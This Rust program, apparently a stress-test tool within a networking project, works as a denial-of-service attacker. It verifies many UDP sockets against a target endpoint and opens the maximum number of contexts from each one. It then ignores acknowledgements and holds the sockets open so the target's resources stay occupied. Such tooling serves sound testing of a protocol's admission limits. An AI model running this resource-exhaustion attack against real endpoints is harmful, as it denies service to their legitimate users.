//! A verified peer without any privilege that opens as many contexts to an endpoint as it can.
//!
//! ```text
//! occupy_contexts TARGET PORTS ATTACK HOLD
//! ```
//!
//! Each of PORTS sockets proves its address to TARGET by a handshake, as every endpoint does, and then opens as
//! many contexts as an endpoint accepts from one peer. The program ignores every acknowledgement. It ends the
//! attack after ATTACK seconds at the latest, reports on one line what it sent, and holds the sockets open for HOLD
//! seconds, so that TARGET never learns from its host that a port is closed.
#![allow(clippy::disallowed_methods, clippy::print_stdout)] // it reads the clock and prints

use std::hash::Hasher;
use std::io::Write;
use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use siphasher::sip::SipHasher24;
use squall_net::base::Psn;
use squall_wire::{
    Dest, Extension, Handshake, Mode, NextHeader, Opcode, Packet, Reason, Request, Ses, Stage,
    StdBody, StdRequest, WIRE_VERSION, parse,
};

/// The number of contexts that an endpoint accepts from one peer (`max_accepted` of the reliability layer's
/// configuration).
const CONTEXTS_PER_PORT: u16 = 64;
/// The job id that is the default of `FI_SQUALL_JOB`.
const JOB_ID: u32 = 1;
/// The number of times that a handshake packet without an answer is sent.
const ATTEMPTS: u32 = 3;
const ANSWER_TIMEOUT: Duration = Duration::from_millis(200);
/// The pause between two ports. The packets of one port fit into the target's socket buffer, and no more of them should
/// wait there.
const PAUSE: Duration = Duration::from_millis(2);

/// An attacker's endpoint: one socket with its own address.
struct Attacker {
    socket: UdpSocket,
    port: u16,
    instance: u32,
    nonce: u64,
}

fn main() {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let [target, ports, attack, hold] = words.as_slice() else {
        panic!("usage: occupy_contexts TARGET PORTS ATTACK HOLD");
    };
    let target: SocketAddr = target.parse().expect("TARGET is an address and a port");
    let ports: u32 = ports.parse().expect("PORTS is a number");
    let attack: u64 = attack.parse().expect("ATTACK is a number of seconds");
    let hold: u64 = hold.parse().expect("HOLD is a number of seconds");
    let begin = Instant::now();
    let (mut verified, mut opened) = (0, 0);
    let mut attackers = Vec::new();
    for number in 0..ports {
        if begin.elapsed() > Duration::from_secs(attack) {
            break;
        }
        let attacker = Attacker::new(number);
        if let Some(cookie) = attacker.prove_address(target) {
            verified += 1;
            opened += attacker.open_contexts(target, cookie);
        }
        attackers.push(attacker);
        std::thread::sleep(PAUSE);
    }
    let took = begin.elapsed().as_secs_f64();
    println!(
        "occupy_contexts: {verified} ports verified, {opened} contexts asked for in {took:.1} s"
    );
    std::io::stdout().flush().expect("standard output is open");
    std::thread::sleep(Duration::from_secs(hold));
}

impl Attacker {
    fn new(number: u32) -> Self {
        let socket = UdpSocket::bind("0.0.0.0:0").expect("a socket; raise the limit of open files");
        socket.set_read_timeout(Some(ANSWER_TIMEOUT)).expect("a timeout that is not zero");
        let port = socket.local_addr().expect("the socket is bound").port();
        Self { socket, port, instance: 0x10000 + number, nonce: 1 + u64::from(number) }
    }

    /// Sends a handshake packet of this attacker.
    fn introduce(&self, target: SocketAddr, stage: Stage, cookie: u64) {
        let introduction = Handshake {
            stage,
            version: WIRE_VERSION,
            port: self.port,
            reason: Reason::None,
            nonce: self.nonce,
            instance: self.instance,
            expected: 0,
            cookie,
            job_id: JOB_ID,
            capabilities: 0,
            proof: [0; 16],
        };
        let mut out = [0; Handshake::LEN];
        let len = introduction.emit(&mut out);
        // A packet that the kernel drops counts as lost in the network.
        let _ = self.socket.send_to(&out[..len], target);
    }

    /// Asks the target for a cookie, and returns it to the target. Returns the cookie, or `None` if the target never
    /// answered.
    fn prove_address(&self, target: SocketAddr) -> Option<u64> {
        let mut packet = [0; 2048];
        for _ in 0..ATTEMPTS {
            self.introduce(target, Stage::Hello, 0);
            let Ok((len, _)) = self.socket.recv_from(&mut packet) else { continue };
            let Ok(Packet::Negotiation { values, .. }) = parse(&packet[..len]) else { continue };
            let Ok(Some(answer)) = Handshake::read(values) else { continue };
            if answer.stage == Stage::Challenge {
                self.introduce(target, Stage::Confirm, answer.cookie);
                return Some(answer.cookie);
            }
        }
        None
    }

    /// Sends the first packet of every context. Returns the number of packets that left.
    fn open_contexts(&self, target: SocketAddr, cookie: u64) -> u32 {
        let mut out = [0; 256];
        let mut sent = 0;
        for turn in 0..CONTEXTS_PER_PORT {
            let number = turn + 1;
            let start = self.start_psn(cookie, number, u32::from(turn));
            let len = self.no_op(number, start).emit(&mut out);
            sent += u32::from(self.socket.send_to(&out[..len], target).is_ok());
        }
        sent
    }

    /// Returns the PSN at which a context must start. Both ends derive it from the values of the handshake
    /// (`reliability/src/pdcs/admission.rs`), so this program repeats that derivation.
    fn start_psn(&self, cookie: u64, number: u16, turn: u32) -> Psn {
        let mut hasher = SipHasher24::new_with_keys(cookie, self.nonce);
        // The last bit is set: the end that opens the context is the one that asked for the handshake.
        hasher.write_u64(u64::from(turn) << 32 | u64::from(number) << 16 | 1);
        Psn((hasher.finish() >> 32) as u32)
    }

    /// Builds a request that opens context `number` and has no operation.
    fn no_op(&self, number: u16, psn: Psn) -> Packet<'static> {
        let pds = Request {
            mode: Mode::Rud,
            next: NextHeader::RequestStd,
            retx: false,
            ack_request: true,
            clear_psn_offset: 0,
            psn,
            spdcid: number,
            dest: Dest::Syn { use_rsv_pdc: false, psn_offset: 0 },
            ccc: None,
        };
        let ses = StdRequest {
            opcode: Opcode::NoOp,
            delivery_complete: false,
            initiator_error: false,
            relative: false,
            header_data_present: false,
            eom: true,
            som: true,
            message_id: 0,
            ri_generation: 0,
            job_id: JOB_ID,
            pid_on_fep: 0,
            resource_index: 0,
            buffer_offset: 0,
            initiator: (self.instance & 0xffff) << 16 | u32::from(self.port),
            match_bits: 0,
            body: StdBody::First { header_data: 0 },
            request_length: 0,
            extension: Extension::None,
        };
        Packet::Request { pds, ses: Ses::Std(ses), payload: &[] }
    }
}
